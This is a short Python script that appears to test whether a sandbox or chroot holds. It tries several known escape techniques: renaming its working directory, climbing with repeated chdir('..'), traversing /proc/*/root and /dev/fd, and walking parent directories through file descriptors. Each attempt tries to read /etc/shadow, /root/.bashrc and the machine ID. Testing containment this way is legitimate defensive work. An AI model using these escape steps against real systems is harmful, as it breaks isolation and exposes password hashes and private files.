import os

told = []
here = os.open(".", os.O_RDONLY)
os.mkdir("in")
os.chdir("in")
os.rename("../in", "../moved")
for _ in range(40):
    os.chdir("..")
for name in (".", "..", "../..", "/..", "/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../..", "/dev/fd/../../.."):
    for secret in ("etc/shadow", "root/.bashrc", "etc/machine-id"):
        try:
            if open(os.path.join(name, secret)).read(1):
                told.append(secret)
        except OSError:
            pass
for flag in (os.O_RDONLY, os.O_PATH):
    try:
        up = here
        for _ in range(40):
            up = os.open("..", flag | os.O_DIRECTORY, dir_fd=up)
        if open(os.open("etc/shadow", os.O_RDONLY, dir_fd=up)).read(1):
            told.append("by descriptor")
    except OSError:
        pass
print("held" if not told else told)
